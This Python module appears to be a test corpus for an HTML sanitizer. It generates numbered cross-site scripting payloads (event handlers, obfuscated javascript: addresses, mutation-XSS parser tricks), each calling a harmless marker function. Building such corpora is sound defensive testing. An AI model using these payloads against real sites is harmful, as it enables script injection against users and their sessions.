"""HTML that runs a script where it is not cleaned: each calls `ran(n)` with its number.

The shapes are known ones (event handlers, addresses, namespaces that a second parsing reads
otherwise), put together here.
"""

from itertools import product

EVENTS = ["onerror", "onload", "onfocus", "onanimationstart", "ontoggle", "onbegin", "onpageshow"]
EVENTS += ["onmouseover", "onclick", "onpointerenter", "onscroll", "onloadstart"]
TAGS = ["img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x"]
TAGS += ["iframe src=data:,", "object data=x", "marquee", "math", "a href=#x", "p", "strong"]
ADDRESSES = [
    "javascript:{}",
    "JaVaScRiPt:{}",
    " javascript:{}",
    "java\tscript:{}",
    "java\nscript:{}",
    "javascript&colon;{}",
    "&#106;avascript:{}",
    "&#x6A;avascript:{}",
    "\x01javascript:{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    "//javascript:{}",
]
HOLDERS = [
    '<a href="{}">x</a>',
    '<img src="{}">',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button>x</button></form>',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<svg><use href="{}"></svg>',
    '<math href="{}">x</math>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<meta http-equiv="refresh" content="0;url={}">',
    '<base href="{}">',
    '<link rel="stylesheet" href="{}">',
]
IMAGE = "<img src=x onerror={}>"
SHAPES = [
    "<script>{}</script>",
    "<SCRIPT/x>{}</SCRIPT>",
    "<scr<script>ipt>{}</script>",
    "<svg><script>{}</script></svg>",
    "<svg><script href='data:,{}'/>",
    "<math><mtext><table><mglyph><style><!--</style>" + IMAGE,
    "<math><mtext><table><mglyph><style><math>" + IMAGE,
    "<form><math><mtext></form><form><mglyph><style></math>" + IMAGE,
    "<svg></p><style><a id='</style>" + IMAGE + "'>",
    "<svg><style><img src='</style>" + IMAGE + "'>",
    "<noscript><p title='</noscript>" + IMAGE + "'>",
    "<noembed><img title='</noembed>" + IMAGE + "'></noembed>",
    "<textarea><img title='</textarea>" + IMAGE + "'></textarea>",
    "<title><img title='</title>" + IMAGE + "'></title>",
    "<xmp><p title='</xmp>" + IMAGE + "'></xmp>",
    "<style><!--</style>" + IMAGE + "--></style>",
    "<!--><img src=x onerror={}>-->",
    "<!--! ><img src=x onerror={}> -->",
    "<![CDATA[><img src=x onerror={}>]]>",
    "<?xml ?><img src=x onerror={}>",
    "<img src=`x`onerror={}>",
    "<img/src/onerror={}>",
    '<img src="x" alt="`"onerror={}>',
    "<img src=x:x onerror\x0c={}>",
    "<a href='https://a.example\"onmouseover={} x='>x</a>",
    "<a href='https://a.example' autofocus onfocus={}>x</a>",
    "<template><img src=x onerror={}></template>",
    "<select><template><img src=x onerror={}></template></select>",
    "<table><td background='javascript:{}'></table>",
    "<p style='background:url(javascript:{})'>x</p>",
    "<p style='animation-name:x' onanimationstart={}>x</p>",
    "<figure><img src='/media/x.webp' onerror={}></figure>",
    "<figure><img src='/media/x.webp\" onerror={} x=\"'></figure>",
    "<details open ontoggle={}><summary>x</summary>y</details>",
    "<ol start='1\" onclick={} x=\"'><li>x</ol>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:{} /></svg>",
    "<svg><set attributeName=onmouseover to={} /></svg>",
    "<svg><foreignObject><body onload={}></foreignObject></svg>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<object type='text/html' data='data:text/html,<script>parent.{}</script>'></object>",
    "<isindex type=image src=x onerror={}>",
    "<input type=image src=x onerror={}>",
    "<video><source onerror={}></video>",
    "<b><p><b><img src=x onerror={}></p>",
    "<a><a><svg><a><img src=x onerror={}>",
    "&lt;img src=x onerror={}&gt;",
    "[x](javascript:{})",
    '![x](/media/x.webp" onerror={} ")',
    "**<img src=x onerror={}>**",
]


def attacks() -> list[str]:
    """Return all of them, each with a number of its own."""
    shapes = [f"<{tag} {event}={{}}>" for tag, event in product(TAGS, EVENTS)]
    shapes += [holder.format(address) for holder, address in product(HOLDERS, ADDRESSES)]
    shapes += SHAPES
    return [shape.replace("{}", f"ran({number})") for number, shape in enumerate(shapes)]
